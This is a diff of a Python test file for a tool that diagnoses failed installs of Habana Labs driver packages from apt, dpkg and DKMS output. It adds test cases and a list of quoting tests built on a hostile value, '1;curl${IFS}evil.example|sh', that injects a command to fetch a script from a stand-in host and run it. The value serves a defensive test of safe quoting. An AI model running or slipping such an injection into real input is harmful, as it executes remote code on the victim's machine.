@@ -98,9 +98,48 @@ Consult /var/lib/dkms/habanalabs/1.24.0-1007/build/make.log for more information
             "dependency_unmet",
             "habanalabs-thunk needs habanalabs-dkms (= 1.22.2-32), but 1.21.0-555 would be there.",
         ),
+        # The name stands before the first line of a package; a version that is there says most.
+        (
+            " habanalabs-graph : Depends: habanalabs-thunk (= 1.22.2-32) but it is not going to be installed\n"
+            "                    Depends: libc6 (>= 2.39) but 2.35-0ubuntu3 is to be installed\n"
+            "E: Unable to correct problems, you have held broken packages.",
+            "dependency_unmet",
+            "habanalabs-graph needs libc6 (>= 2.39), but 2.35-0ubuntu3 would be there.",
+        ),
+        (
+            " habanalabs-dkms : Depends: dkms but it is not installable\nE: Unable to correct problems, you have held "
+            "broken packages.",
+            "dependency_unmet",
+            "habanalabs-dkms needs dkms, but it is not installable.",
+        ),
+        (
+            " habanalabs-dkms : Breaks: habanalabs (< 1.22) but 1.20.1-97 is to be installed\n",
+            "dependency_unmet",
+            "habanalabs-dkms breaks habanalabs (< 1.22), but 1.20.1-97 would be there.",
+        ),
+        (
+            "dpkg: dependency problems prevent configuration of habanalabs-graph:\n habanalabs-graph depends on "
+            "habanalabs-thunk (= 1.22.2-32); however:\n  Version of habanalabs-thunk on system is 1.21.0-555.\n",
+            "dependency_unmet",
+            "habanalabs-graph needs habanalabs-thunk (= 1.22.2-32), but 1.21.0-555 is installed.",
+        ),
+        (
+            "dpkg: error processing archive /var/cache/apt/archives/habanalabs-graph_1.22.2-32_all.deb (--unpack):\n"
+            " trying to overwrite '/usr/lib/habanalabs/libSynapse.so', which is also in package habanalabs-old 1.16.0\n"
+            "dpkg-deb: error: subprocess paste was killed by signal (Broken pipe)\n"
+            "E: Sub-process /usr/bin/dpkg returned an error code (1)",
+            "packages_share_a_file",
+            "habanalabs-graph_1.22.2-32_all.deb: /usr/lib/habanalabs/libSynapse.so is also a file of the package "
+            "habanalabs-old 1.16.0.",
+        ),
         ("E: Unable to locate package habanalabs-dkms", "package_nowhere", "has habanalabs-dkms."),
         ("E: Package 'habanalabs-dkms' has no installation candidate", "package_nowhere", "has habanalabs-dkms."),
-        ("E: Unable to correct problems, you have held broken packages.", "held_package_in_the_way", "apt-mark"),
+        # apt calls packages so that are not on hold.
+        (
+            "E: Unable to correct problems, you have held broken packages.",
+            "dependency_unmet",
+            "The following packages have unmet dependencies",
+        ),
         (
             "E: You don't have enough free space in /var/cache/apt/archives/.",
             "no_room_for_packages",
@@ -249,6 +288,28 @@ def test_a_script_of_a_package_that_failed_is_named(package: str, status: int, i
     assert build_failed(said) is (status == 10)
 
 
+@pytest.mark.parametrize("why", ["404  Not Found [IP: 10.0.0.1 80]", "Hash Sum mismatch", "File not found - x (2: No)"])
+def test_package_lists_are_updated_before_a_mirror_is_blamed(why: str) -> None:
+    """A repository takes away the file of an older version, which lists of yesterday still name."""
+    found = recognised(
+        f"E: Failed to fetch http://archive.ubuntu.com/pool/l/linux-headers_5.15.0-91.101_all.deb  {why}"
+    )
+    assert found is not None
+    assert found.id == "package_file_not_as_indexed"
+    assert found.remedy.startswith("Run apt-get update")
+
+
+@pytest.mark.parametrize(
+    ("newest", "says"), [("6.8", "newer than 6.8, the newest"), ("", "newer or older"), ("6.17", "")]
+)
+def test_a_build_that_failed_is_compared_with_the_kernels_of_the_release(newest: str, says: str) -> None:
+    found = recognised(BUILD, newest=newest)
+    assert found is not None
+    assert found.id == "driver_does_not_build"
+    assert says in str(found)
+    assert ("the newest" in str(found)) is (newest == "6.8")
+
+
 def test_the_cause_comes_before_its_effects() -> None:
     """apt prints the words of a maintainer script, and then its own."""
     found = recognised(
@@ -273,6 +334,8 @@ HOSTILE = "1;curl${IFS}evil.example|sh"
 QUOTING = (
     f"Error! DKMS tree already contains: habanalabs-{HOSTILE}",
     f"Error! DKMS tree already contains: {HOSTILE}-1.24.0",
+    f" a : Depends: {HOSTILE} (= 1) but 2 is to be installed",
+    f" trying to overwrite '/a', which is also in package {HOSTILE} 1.0",
     f"module/version combo: habanalabs-{HOSTILE} is not located in the DKMS tree.",
     f"Error! Your kernel headers for kernel {HOSTILE} cannot be found",
     f"Module build for kernel {HOSTILE} was skipped since the kernel headers",
